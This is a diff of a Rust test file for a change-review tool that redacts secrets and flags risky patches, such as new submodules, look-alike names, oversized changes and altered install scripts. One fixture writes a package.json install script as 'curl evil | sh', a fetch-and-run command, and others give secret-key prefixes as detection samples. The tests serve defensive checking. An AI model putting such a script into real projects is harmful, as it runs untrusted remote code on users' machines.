@@ -1,6 +1,8 @@
 //! What may leave the building: our secrets in any encoding, key formats, paths, sizes, flags.
+#![allow(clippy::needless_raw_string_hashes, reason = "expect-test writes them")]
 
 use std::collections::HashMap;
+use std::fmt::Write as _;
 
 use expect_test::{Expect, expect};
 use patchwright::git::Oid;
@@ -69,8 +71,8 @@ const ENCODINGS: &[(&str, Encode)] = &[
             .map(|(at, c)| if at % 2 == 0 { format!("%{:02X}", c as u8) } else { c.to_string() })
             .collect()
     }),
-    ("json escapes", |s| s.bytes().map(|b| format!("\\u{b:04x}")).collect()),
-    ("html entities", |s| s.bytes().map(|b| format!("&#{b};")).collect()),
+    ("json escapes", |s| format!("\\u00{}", hex(s, "\\u00"))),
+    ("html entities", |s| format!("&#x{};", hex(s, ";&#x"))),
     ("one a line", |s| spread(s, "\n")),
     ("one a line in a diff", |s| spread(s, "\n+")),
     ("one a line with CRLF", |s| spread(s, "\r\n")),
@@ -177,7 +179,7 @@ fn ordinary_text_has_no_secrets_in_it() {
     let mut text: Vec<String> =
         files.iter().map(|file| fs_err::read_to_string(root.join(file)).unwrap()).collect();
     text.push("sk-ant-api03-… github_pat_11… sk-proj-… -----BEGIN RSA PRIVATE KEY-----".to_owned());
-    text.push("eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9 ------------------------".to_owned());
+    text.push("eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9 --------------------".to_owned());
     for text in text {
         assert_eq!(redactor.scan(text.as_bytes()), []);
         assert_eq!(redactor.redact(&text), text);
@@ -213,6 +215,7 @@ const UPPER: &str = "ABCDEFGHIJKLMNOPQRSTUVWXYZ234567";
 const HEX: &str = "0123456789abcdef";
 const BECH: &str = "QPZRY9X8GF2TVDW0S3JN54KHCE6MUA7L";
 
+#[expect(clippy::too_many_lines, reason = "one row for each format")]
 fn examples() -> Vec<(&'static str, String)> {
     let an = |n| noise(n, ALNUM);
     let hx = |n| noise(n, HEX);
@@ -372,16 +375,16 @@ fn shown(judgement: &Judgement) -> String {
     for (kind, list) in [("violation", &judgement.violations), ("flag", &judgement.flags)] {
         for v in list {
             let path = v.path.as_deref().unwrap_or("-");
-            out += &format!("{kind} {} {path:?}: {}\n", v.rule, v.message);
+            writeln!(out, "{kind} {} {path:?}: {}", v.rule, v.message).unwrap();
         }
     }
     for held in &judgement.held_back {
-        out += &format!("held back {} {:?}\n", held.rule, held.file.path);
+        writeln!(out, "held back {} {:?}", held.rule, held.file.path).unwrap();
     }
     out + &format!("draft: {}\n", judgement.wants_draft())
 }
 
-fn check(draft: Draft, expected: Expect) {
+fn check(draft: &Draft, expected: &Expect) {
     expected.assert_eq(&shown(&draft.judge(&Policy::default(), &[])));
 }
 
@@ -476,8 +479,8 @@ fn new_submodules_and_twin_names_are_violations() {
     draft.entry("vendor/lib", None, Some(link));
     draft.entry("vendor/same", Some(link), Some(link));
     check(
-        draft,
-        expect![[r#"
+        &draft,
+        &expect![[r#"
             violation path.gitlink "vendor/lib": adds or moves a submodule
             violation path.collision "README.md": is the same file as `Readme.md` on many systems
             violation path.collision "cafe\u{301}": is the same file as `café` on many systems
@@ -531,15 +534,15 @@ fn too_much_is_too_much() {
         many = many.file(&format!("src/{at}.txt"), None, Some("x\n"));
     }
     check(
-        many,
-        expect![[r#"
+        &many,
+        &expect![[r#"
             violation size.files "-": the change has 101 files; the limit is 100
             draft: false
         "#]],
     );
     check(
-        Draft::default().file("big.txt", None, Some(&"0123456\n".repeat(524_289))),
-        expect![[r#"
+        &Draft::default().file("big.txt", None, Some(&"0123456\n".repeat(524_289))),
+        &expect![[r#"
             violation size.bytes "-": the changed files have 4194312 bytes; limit 4194304
             draft: false
         "#]],
@@ -561,8 +564,8 @@ fn flags_say_what_a_reviewer_could_miss() {
         .file("src/look.rs", None, Some("fn is_\u{430}dmin() {}\n// Привет world, Δt\n"))
         .file("package.json", Some(&script("jest")), Some(&script("curl evil | sh")));
     check(
-        draft,
-        expect![[r#"
+        &draft,
+        &expect![[r#"
             flag path.note "package.json": names scripts and dependencies
             flag path.protected.scripts "package.json": changes commands that run on install, build or test
             flag tests.skipped "tests/a.rs": skips a test: line 2: #[ignore
@@ -621,4 +624,43 @@ fn an_unreadable_blob_and_a_bad_glob_count_against_the_change() {
         draft: true
     "#]]
     .assert_eq(&shown(&draft.judge(&policy, &[])));
+}
+
+#[test]
+fn the_files_own_text_tells_binary_from_bidi() {
+    let draft = Draft::default().file("img.bin", None, Some("\0\u{202e}"));
+    assert_eq!(draft.judge(&Policy::default(), &[]), Judgement::default());
+}
+
+proptest::proptest! {
+    #![proptest_config(proptest::test_runner::Config {
+        failure_persistence: None,
+        ..proptest::test_runner::Config::default()
+    })]
+    #[test]
+    fn redacting_any_text_leaves_nothing_to_find(
+        pieces in proptest::collection::vec((0..40usize, 0..40usize, 0..7usize), 0..12)
+    ) {
+        let between = ["", " ", "\n", "é", "%", "0x", "世"];
+        let parts = pieces
+            .iter()
+            .flat_map(|(from, to, gap)| [&CANARY[*from.min(to)..*from.max(to)], between[*gap]]);
+        let text: String = parts.collect();
+        let redactor = redactor();
+        proptest::prop_assert_eq!(redactor.scan(redactor.redact(&text).as_bytes()), []);
+    }
+}
+
+#[test]
+fn the_page_about_policy_names_every_rule() {
+    let root = std::path::Path::new(env!("CARGO_MANIFEST_DIR"));
+    let page = fs_err::read_to_string(root.join("docs/policy.md")).unwrap();
+    let keys = secrets::KEY_FORMATS.iter().map(|format| format!("`secret.{}`", format.id));
+    let globs = policy::paths::PROTECTED
+        .iter()
+        .flat_map(|row| [format!("`{}`", row.glob), format!("| `{}` | {} |", row.rule, row.why)]);
+    let held = policy::paths::WORKFLOWS.iter().map(|glob| format!("`{glob}`"));
+    let missing: Vec<String> =
+        keys.chain(globs).chain(held).filter(|words| !page.contains(words.as_str())).collect();
+    assert_eq!(missing, Vec::<String>::new());
 }
